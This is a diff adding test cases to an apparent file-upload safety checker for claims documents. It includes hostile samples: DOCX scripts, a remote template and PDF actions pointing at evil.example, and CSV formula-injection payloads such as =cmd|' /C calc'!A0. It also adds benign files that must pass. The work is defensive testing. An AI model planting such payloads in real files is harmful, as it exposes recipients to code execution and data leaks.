@@ -390,6 +390,30 @@ HOSTILE = [
     ("png-html-polyglot", "photo.png", PNG + b"<script src=//x></script>", "also contains web page code",
      "save it as a new image"),
     # Review: archives after a few harmless bytes, or after a picture's end.
+    # Outside testing: a script in a custom XML part, a macro-enabled document named .docx, links fetched on opening.
+    ("docx-script-in-custom-xml", "letter.docx", docx({"customXml/item1.xml":
+     b'<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>'}),
+     "web page code (a script)", "Save it again"),
+    ("docx-script-with-a-prefix", "letter.docx", docx({"word/header1.xml": b"<w:hdr><h:script>x</h:script></w:hdr>"}),
+     "web page code (a script)", "Save it again"),
+    ("docx-declared-macro-enabled", "letter.docx", docx({"[Content_Types].xml": b'<Types><Override '
+     b'PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'}),
+     "contains macros", "Save it without them"),
+    ("xlsx-external-workbook-link", "claims.xlsx", office({**XLSX_PARTS,
+     "xl/externalLinks/externalLink1.xml": b"<externalLink/>"}), "links to other files", "Break the links"),
+    ("docx-remote-template", "letter.docx", docx({"word/_rels/settings.xml.rels": b'<Relationships><Relationship '
+     b'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+     b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'}),
+     "links to other files or a template", "Break the links"),
+    ("docx-linked-picture", "letter.docx", docx({"word/_rels/document.xml.rels": b"<Relationships><Relationship "
+     b"Id='rId9' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/image' "
+     b"Target='file://host/share/a.png' TargetMode='External'/></Relationships>"}),
+     "links to other files", "Break the links"),
+    ("pdf-automatic-action-on-close", "eob.pdf",
+     pdf(b"<< /Type /Catalog /Pages 2 0 R /AA << /WC << /S /URI /URI (http://evil.example/) >> >> >>", PAGES),
+     "runs actions by itself", PRINT),
+    ("pdf-submit-form", "eob.pdf", pdf(CATALOG, PAGES, b"<< /S /SubmitForm /F (http://evil.example/) >>"),
+     "runs actions by itself", PRINT),
     ("docx-bmp-then-zip", "letter.docx", docx({"word/media/image1.bmp": b"BM" + zipped("x.exe", [b"MZ"])}),
      EMBEDDED, "on its own"),
     ("docx-xml-then-zip", "letter.docx", docx({"word/header1.xml": b"<x/>" + zipped("x.exe", [b"MZ"])}),
@@ -423,7 +447,17 @@ HOSTILE = [
     *[(f"csv-formula-{number}", "claims.csv", b"member,rin,notes\nPat,123456789," + cell + b"\n",
        "a cell starts with =, +, - or @", "put a ' before it")
       for number, cell in enumerate((b"=cmd|' /C calc'!A0", b'"=HYPERLINK(""http://x"",""Pay"")"', b"@SUM(1+1)",
-      b"+cmd|' /C calc'!A0", b"-2+3+cmd|' /C calc'!A0", b"-(1)", b" =1+1"))],
+      b"+cmd|' /C calc'!A0", b"-2+3+cmd|' /C calc'!A0", b"-SUM(1)", b" =SUM(1,2)",
+      "\uff1dHYPERLINK(1)".encode(), "\uff20SUM(1)".encode()))],
+    # Outside testing: a formula after a byte-order mark, after a lone CR, in ;-separated data, and in UTF-16.
+    ("csv-formula-after-bom", "claims.csv", b"\xef\xbb\xbf=HYPERLINK(\"http://x\")\n", "a cell starts with =",
+     "put a ' before it"),
+    ("csv-formula-after-cr", "claims.csv", b"member\rPat\r=cmd|' /C calc'!A0\r", "a cell starts with =",
+     "put a ' before it"),
+    ("csv-formula-semicolons", "claims.csv", b"member;rin\nPat;=cmd|' /C calc'!A0\n", "a cell starts with =",
+     "put a ' before it"),
+    ("csv-formula-utf16", "claims.csv", "member,notes\nPat,=HYPERLINK(1)\n".encode("utf-16"),
+     "a cell starts with =", "put a ' before it"),
     ("txt-formula", "notes.txt", b"Notes\tAmount\n=cmd|' /C calc'!A0\t1\n", "a cell starts with =, +, - or @",
      "put a ' before it"),
     ("text-binary-after-64kb", "notes.txt", b"Call notes.\n" * 8000 + b"\0\0MZ", "is not plain text",
@@ -515,6 +549,13 @@ GENUINE = [
     ("claims.csv",
      b"member,rin,amount,notes\nPat,123456789,-12.50,paid <base rate>\n" * 3000 + b"Lee,987654321,1,<2\n"),
     ("long-notes.txt", "Résumé of calls with the MCO; 5 > 3.\n".encode() * 4000),
+    # A Word document with an ordinary web link (an external relationship of the hyperlink type).
+    ("letter-with-a-link.docx", docx({"word/_rels/document.xml.rels": b'<Relationships><Relationship Id="rId5" '
+     b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
+     b'Target="https://www.illinois.gov/hfs" TargetMode="External"/></Relationships>'})),
+    # Notes a person writes: headings, dashes and sums are not formulas that call anything.
+    ("call-notes.txt", b"=== Summary ===\n- Follow-up call (Tuesday) with Dr. Smith-Jones\n-5 days late\n=1+1\n"),
+    ("notes.csv", b"member,notes\nPat,- Follow-up call (Tuesday)\nLee,=== see EOB ===\n"),
 ]  # fmt: skip
 
 
